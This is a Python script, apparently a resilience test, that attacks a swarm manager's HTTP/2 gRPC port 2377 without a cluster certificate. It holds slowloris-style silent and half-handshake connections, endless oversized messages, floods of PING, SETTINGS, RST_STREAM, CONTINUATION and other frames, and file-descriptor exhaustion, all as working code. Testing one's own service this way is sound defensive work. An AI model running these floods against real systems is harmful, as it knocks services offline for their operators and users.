#!/usr/bin/env python3
"""Attacks on a manager's port (2377) by callers without a certificate of the swarm, and one by a member.

usage: management.py ATTACK ADDRESS PORT SECONDS [CERTIFICATE KEY]
Prints what became of it, as words and numbers; leaves with 0 when it could attack.
"""
import os, select, socket, ssl, struct, subprocess, sys, tempfile, time

attack, address, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
end = time.monotonic() + seconds
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


SETTINGS = frame(4, 0, 0)


def literal(name, value):  # HPACK: a literal header without indexing, no Huffman coding
    def text(value):
        length = len(value)
        return (bytes([length]) if length < 127 else bytes([127, length - 127])) + value
    return b"\0" + text(name.encode()) + text(value.encode())


def headers(stream, path="/weft.v1.Membership/Join"):
    block = b"".join(literal(*pair) for pair in [
        (":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "m"),
        ("content-type", "application/grpc"), ("te", "trailers")])
    return frame(1, 4, stream, block)


def contexts():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    if len(sys.argv) > 6:
        context.load_cert_chain(sys.argv[5], sys.argv[6])
        return context
    with tempfile.TemporaryDirectory() as folder:
        subprocess.run(
            ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "1",
             "-subj", "/CN=stranger", "-keyout", f"{folder}/key", "-out", f"{folder}/cert"],
            check=True, stderr=subprocess.DEVNULL)
        context.load_cert_chain(f"{folder}/cert", f"{folder}/key")
    return context


def raw():
    connection = socket.create_connection((address, port), timeout=10)
    return connection


CONTEXT = None


def secure():
    global CONTEXT
    CONTEXT = CONTEXT or contexts()
    connection = CONTEXT.wrap_socket(raw(), server_hostname="m")
    connection.sendall(PREFACE + SETTINGS)
    return connection


def ended(connection):
    """Whether the other side closed; what it said is thrown away."""
    try:
        while select.select([connection], [], [], 0)[0]:
            if not connection.recv(65536):
                return True
    except ssl.SSLWantReadError:
        return False
    except OSError:
        return True
    return False


def wait_until_ended(connections, limit):
    """Seconds until all are closed, or None."""
    began = time.monotonic()
    left = list(connections)
    while left and time.monotonic() - began < limit:
        left = [one for one in left if not ended(one)]
        time.sleep(0.05)
    return None if left else time.monotonic() - began


def silent():
    """Connections without a byte: they end by themselves."""
    open_ones, refused = [], 0
    for _ in range(300):
        try:
            open_ones.append(raw())
        except OSError:
            refused += 1
    took = wait_until_ended(open_ones, 20)
    print(f"connections {len(open_ones)} refused {refused} gone-after {took if took is None else round(took, 1)}")
    return took is not None


def handshake():
    """Half of a ClientHello, and then nothing."""
    open_ones = [raw() for _ in range(20)]
    for one in open_ones:
        try:
            one.sendall(bytes.fromhex("160301020001000001fc0303") + os.urandom(100))
        except OSError:
            pass
    took = wait_until_ended(open_ones, 20)
    print(f"gone-after {took if took is None else round(took, 1)}")
    return took is not None


def idle():
    """Handshake and preface, and no call."""
    open_ones = [secure() for _ in range(10)]
    took = wait_until_ended(open_ones, 20)
    print(f"gone-after {took if took is None else round(took, 1)}")
    return took is not None


class Sender:
    """A connection that keeps to the windows that it is given (RFC 9113, 6.9)."""

    def __init__(self, streams):
        self.connection, self.received, self.sent = secure(), b"", 0
        self.windows = {stream: 65535 for stream in (0, *streams)}
        for stream in streams:
            self.connection.sendall(headers(stream))
            self.data(stream, b"\0" + struct.pack("!I", 20 << 20))
        self.connection.setblocking(False)

    def data(self, stream, payload):
        self.connection.sendall(frame(0, 0, stream, payload))
        self.windows[0] -= len(payload)
        self.windows[stream] -= len(payload)
        self.sent += len(payload)

    def listen(self):
        try:
            while True:
                piece = self.connection.recv(65536)
                if not piece:
                    raise OSError
                self.received += piece
        except (ssl.SSLWantReadError, BlockingIOError):
            pass
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + length:
                break
            kind, stream = self.received[3], int.from_bytes(self.received[5:9], "big")
            payload, self.received = self.received[9:9 + length], self.received[9 + length:]
            if kind == 8 and stream in self.windows:
                self.windows[stream] += int.from_bytes(payload, "big")
            if kind == 4 and not self.windows.get("settled"):
                self.windows["settled"] = True
                self.connection.setblocking(True)
                self.connection.sendall(frame(4, 1, 0))
                self.connection.setblocking(False)

    def advance(self):
        self.listen()
        for stream in [one for one in self.windows if one not in (0, "settled")]:
            room = min(self.windows[0], self.windows[stream], 16384)
            if room > 0:
                self.connection.setblocking(True)
                self.data(stream, b"a" * room)
                self.connection.setblocking(False)


def large():
    """Messages of 20 MB that never end."""
    senders, sent, ended_ones = [], 0, 0
    for _ in range(8):
        try:
            senders.append(Sender((1, 3)))
        except OSError:
            ended_ones += 1
    while senders and time.monotonic() < end:
        for one in list(senders):
            try:
                one.advance()
            except (OSError, ssl.SSLError):
                senders.remove(one)
                ended_ones += 1
                sent += one.sent
    sent += sum(one.sent for one in senders)
    print(f"sent {sent >> 10} KB, ended {ended_ones} left {len(senders)}")
    return not senders


def flood(piece):
    """One kind of frame as fast as it goes; a new connection for each that is ended."""
    connections = frames = 0
    piece = piece * 64
    while time.monotonic() < end:
        try:
            one = secure()
            connections += 1
            one.sendall(headers(1))
            while time.monotonic() < end:
                one.sendall(piece)
                frames += 64
                if ended(one):
                    break
            one.close()
        except OSError:
            time.sleep(0.01)
    print(f"frames {frames} connections {connections}")
    return True


def connects():
    """New connections as fast as they come, without and with a handshake."""
    count = 0
    while time.monotonic() < end:
        try:
            one = raw()
            count += 1
            one.close()
        except OSError:
            pass
    print(f"connections {count}")
    return True


def calls():
    """Calls that are refused, as fast as connections allow."""
    count = 0
    while time.monotonic() < end:
        try:
            one = secure()
            for stream in range(1, 200, 2):
                one.sendall(headers(stream) + frame(0, 1, stream, b"\0\0\0\0\0"))
                count += 1
                if ended(one):
                    break
            one.close()
        except OSError:
            time.sleep(0.01)
    print(f"calls {count}")
    return True


def descriptors():
    """Holds as many connections open as it may, and opens each again that is ended."""
    held, opened = [], 0
    while time.monotonic() < end:
        try:
            held.append(raw())
            opened += 1
        except OSError:
            time.sleep(0.05)
        if len(held) > 900:
            held.pop(0).close()
    print(f"opened {opened}")
    return True


ATTACKS = {
    "silent": silent, "handshake": handshake, "idle": idle, "large": large, "connects": connects, "calls": calls,
    "descriptors": descriptors,
    "window": lambda: flood(frame(8, 0, 0, struct.pack("!I", 1))),
    "ping": lambda: flood(frame(6, 0, 0, b"12345678")),
    "settings": lambda: flood(SETTINGS),
    "reset": lambda: flood(frame(3, 0, 1, struct.pack("!I", 8))),
    "empty": lambda: flood(frame(0, 0, 1)),
    "priority": lambda: flood(frame(2, 0, 1, b"\0\0\0\0\1")),
    "unknown": lambda: flood(frame(200, 0, 0, b"x")),
    "continuation": lambda: flood(frame(9, 0, 1)),
}
sys.exit(0 if ATTACKS[attack]() else 1)
